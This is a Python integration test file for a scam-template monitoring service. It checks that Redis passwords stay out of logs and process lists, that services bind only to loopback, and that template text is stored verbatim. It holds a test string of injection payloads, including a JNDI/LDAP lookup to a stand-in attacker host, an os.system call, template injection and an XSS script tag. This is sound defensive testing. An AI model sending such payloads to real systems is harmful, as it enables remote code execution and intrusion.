"""Lets no one in: Redis passwords and ACL users work end to end and never leak; every embedded service and
the worker listen on 127.0.0.1 only; template text is data, never evaluated."""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import redis

from monitor.config import Settings, mask_url
from monitor.core.models import TemplateIn
from monitor.storage.connections import redis_client
from monitor.storage.kafka import produce_lines
from monitor.storage.keys import Keys
from monitor.storage.registry import TemplateRegistry
from monitor.tools.harness import namespaced

from ..conftest import ROOT, SESSION_TIMEOUT_S
from .helpers import read_topic, running_worker

pytestmark = pytest.mark.integration
MONITOR = [sys.executable, "-m", "monitor.cli"]

PASSWORD = "Pw-7e1c:@/#%é"  # URL-reserved characters on purpose: they must survive the round trip
HOSTILE_TEXT = (
    "Send 50 USDT to claim your free Sora prize now {{7*7}} __import__('os').system('id') "
    "${jndi:ldap://evil.example/a} <script>alert(1)</script> {0.__class__.__mro__}"
)


def _leaks(text: str, *secrets: str) -> list[str]:
    forms = {form for s in secrets for form in (s, quote(s, safe=""), quote(s))}
    return sorted(f for f in forms if f in text)


def run(args: list[str], env: dict[str, str], timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run(MONITOR + args, env=env, capture_output=True, text=True, timeout=timeout, cwd=ROOT)


# --- listening sockets, from /proc -------------------------------------------------------------------------
def _socket_inodes(pid: int) -> set[str]:
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[len("socket:[") : -1])
    return inodes


def _decode(address: str) -> tuple[str, int]:
    host_hex, port_hex = address.split(":")
    raw = bytes.fromhex(host_hex)
    if len(raw) == 4:
        host = socket.inet_ntop(socket.AF_INET, raw[::-1])
    else:  # IPv6: four little-endian 32-bit words
        host = socket.inet_ntop(socket.AF_INET6, b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4)))
    return host, int(port_hex, 16)


def listening(pid: int) -> list[tuple[str, int]]:
    """(address, port) of every TCP socket in LISTEN state that process ``pid`` holds."""
    inodes = _socket_inodes(pid)
    out = []
    for table in ("tcp", "tcp6"):
        path = Path(f"/proc/{pid}/net/{table}")
        if not path.exists():
            continue
        for line in path.read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:  # 0A = LISTEN
                out.append(_decode(fields[1]))
    return out


def test_decode_proc_net_addresses() -> None:
    assert _decode("0100007F:1F90") == ("127.0.0.1", 8080)
    assert _decode("00000000:0050") == ("0.0.0.0", 80)
    assert _decode("00000000000000000000000001000000:0050") == ("::1", 80)


def test_embedded_stack_listens_on_loopback_only(stack: dict[str, Any]) -> None:
    data = json.loads((Path(stack["state_dir"]) / "stack.json").read_text())
    for name, pid in data["pids"].items():
        sockets = listening(pid)
        assert sockets, f"{name} (pid {pid}) listens on nothing?"
        assert {host for host, _ in sockets} == {"127.0.0.1"}, f"{name} listens on {sockets}"
        assert data[f"{name}_port"] in {port for _, port in sockets}


# --- secrets in settings ------------------------------------------------------------------------------------
def test_settings_never_show_secrets() -> None:
    s = Settings(
        redis_url=f"redis://monitor:{quote(PASSWORD, safe='')}@10.0.0.1:6379/0", api_token="tok-SECRET"
    )  # type: ignore[arg-type]
    for shown in (repr(s), str(s), s.model_dump_json(), json.dumps(s.masked(), default=str)):
        assert not _leaks(shown, PASSWORD, "tok-SECRET"), shown
    assert s.masked()["redis_url"] == "redis://monitor:***@10.0.0.1:6379/0"
    assert mask_url("rediss://:pw@h:6380/1") == "rediss://:***@h:6380/1"
    assert mask_url("redis://h:6379/0") == "redis://h:6379/0"


def test_rediss_urls_get_tls_and_the_password() -> None:
    s = Settings(redis_url=f"rediss://monitor:{quote(PASSWORD, safe='')}@redis.example:6380/2")  # type: ignore[arg-type]
    client = redis_client(s)
    pool = client.connection_pool
    assert pool.connection_class is redis.SSLConnection
    assert pool.connection_kwargs["password"] == PASSWORD
    assert pool.connection_kwargs["username"] == "monitor"
    assert pool.connection_kwargs["db"] == 2


# --- template text is data ---------------------------------------------------------------------------------
def test_template_text_round_trips_verbatim(redis_conn: Any, settings: Any, embedder: Any) -> None:
    registry = TemplateRegistry(redis_conn, Keys(settings.redis_prefix), embedder)
    template = TemplateIn(
        id="tpl-inject", category="scam", severity="high", text=HOSTILE_TEXT, examples=("{{ config }} %s %n",)
    )
    registry.upsert_many([template])
    stored = registry.get("tpl-inject")
    assert stored.text == HOSTILE_TEXT
    assert stored.examples == ("{{ config }} %s %n",)
    vector_key = Keys(settings.redis_prefix).vector(embedder.spec.name, "tpl-inject", "text", 0)
    assert redis_conn.hget(vector_key, "text") == HOSTILE_TEXT
    _, snapshot = registry.snapshot()
    assert snapshot["tpl-inject"].text == HOSTILE_TEXT


# --- a password-protected Redis, end to end --------------------------------------------------------------
def test_password_protected_redis_end_to_end(tmp_path: Path) -> None:
    state = tmp_path / "stack"
    base_env = {**os.environ, "MONITOR_STATE_DIR": str(state), "HF_HUB_OFFLINE": "1"}
    up = run(["up"], {**base_env, "MONITOR_STACK_REDIS_PASSWORD": PASSWORD})
    assert up.returncode == 0, up.stderr
    try:
        _password_stack_checks(state, base_env, up, tmp_path)
    finally:
        down = run(["down"], base_env)
        assert down.returncode == 0, down.stderr


def _password_stack_checks(
    state: Path, base_env: dict[str, str], up: subprocess.CompletedProcess[str], tmp_path: Path
) -> None:
    exports = dict(line.removeprefix("export ").split("=", 1) for line in up.stdout.splitlines())
    data = json.loads((state / "stack.json").read_text())
    port = data["redis_port"]
    url = f"redis://:{quote(PASSWORD, safe='')}@127.0.0.1:{port}/0"
    assert exports["MONITOR_REDIS_URL"] == url, "`eval $(monitor up)` gets a URL that works"
    assert not _leaks(up.stderr, PASSWORD)
    # the secret sits in 0600 files only, never on a command line (`ps`)
    for path in (state / "stack.json", state / "redis" / "auth.conf"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for pid in data["pids"].values():
        assert not _leaks(Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"), PASSWORD)
    # Redis really requires it
    with pytest.raises(redis.AuthenticationError):
        redis.Redis(host="127.0.0.1", port=port, socket_timeout=2).ping()
    assert redis.Redis.from_url(url, socket_timeout=2).ping()

    tag = f"sec{uuid.uuid4().hex[:8]}"
    settings = namespaced(
        Settings(
            kafka_url=data["kafka_url"],
            redis_url=url,  # type: ignore[arg-type]
            state_dir=state,
            session_timeout_s=SESSION_TIMEOUT_S,
        ),
        tag,
    )
    env = {**base_env, "MONITOR_REDIS_URL": url, "MONITOR_REDIS_PREFIX": tag}
    catalogue = tmp_path / "templates.jsonl"
    catalogue.write_text(
        json.dumps({"id": "tpl-inject", "category": "scam", "severity": "high", "text": HOSTILE_TEXT}) + "\n"
    )
    imported = run(["templates", "import", str(catalogue), "--json"], env)
    assert imported.returncode == 0, imported.stderr
    assert json.loads(imported.stdout)["imported"] == 1
    shown = run(["templates", "show", "tpl-inject", "--json"], env)
    assert json.loads(shown.stdout)["text"] == HOSTILE_TEXT
    exported = run(["templates", "export"], env)
    assert json.loads(exported.stdout.splitlines()[0])["text"] == HOSTILE_TEXT

    # an ACL user with its own password works the same way
    admin = redis.Redis.from_url(url, socket_timeout=2)
    admin.acl_setuser("monitor-ro", enabled=True, passwords=[f"+{PASSWORD}2"], keys=["*"], commands=["+@all"])
    acl_url = f"redis://monitor-ro:{quote(PASSWORD + '2', safe='')}@127.0.0.1:{port}/0"
    listed = run(["templates", "list", "--json"], {**env, "MONITOR_REDIS_URL": acl_url})
    assert listed.returncode == 0, listed.stderr
    assert [t["id"] for t in json.loads(listed.stdout)] == ["tpl-inject"]

    # the worker reads the registry and dedups alerts through the same URL; template text reaches the alert as is
    log = tmp_path / "worker.log"
    with running_worker(settings, log) as worker:
        post = {"id": "sec-1", "text": HOSTILE_TEXT}
        produce_lines(settings, [json.dumps(post).encode()])
        [match] = read_topic(settings, settings.matches_topic, until=1, timeout_s=60)
        assert match["post_id"] == "sec-1"
        [alert] = read_topic(settings, settings.alerts_topic, until=1, timeout_s=30)
        assert alert["template_id"] == "tpl-inject"
        assert alert["explanation"]["template_text"] == HOSTILE_TEXT
        assert alert["post"]["text"] == HOSTILE_TEXT
        sockets = listening(worker.pid)
        assert sockets
        assert {host for host, _ in sockets} == {"127.0.0.1"}, sockets
    for name, pid in data["pids"].items():
        assert {host for host, _ in listening(pid)} == {"127.0.0.1"}, name

    # the password shows nowhere: logs, config, status, health, error paths
    outputs = {"worker log": log.read_text(errors="replace")}
    env["COLUMNS"] = "500"  # rich tables must not truncate a leak out of sight
    for args in (
        ["config"],
        ["config", "--json"],
        ["status"],
        ["status", "--json"],
        ["health", "redis", "--json"],
        ["health", "all", "--json", "--timeout", "1"],
    ):
        res = run(args, env)
        outputs[" ".join(args)] = res.stdout + res.stderr
    wrong = run(["templates", "list"], {**env, "MONITOR_REDIS_URL": url.replace("Pw-", "Wrong-Pw-")})
    assert wrong.returncode != 0
    outputs["wrong password"] = wrong.stdout + wrong.stderr
    unreachable = run(
        ["health", "redis", "--json"], {**env, "MONITOR_REDIS_URL": url.replace(str(port), "1")}
    )
    outputs["unreachable"] = unreachable.stdout + unreachable.stderr
    for where, text in outputs.items():
        assert not _leaks(text, PASSWORD, "Wrong-" + PASSWORD), f"password in {where}:\n{text[-2000:]}"
    assert "***" in outputs["config --json"]
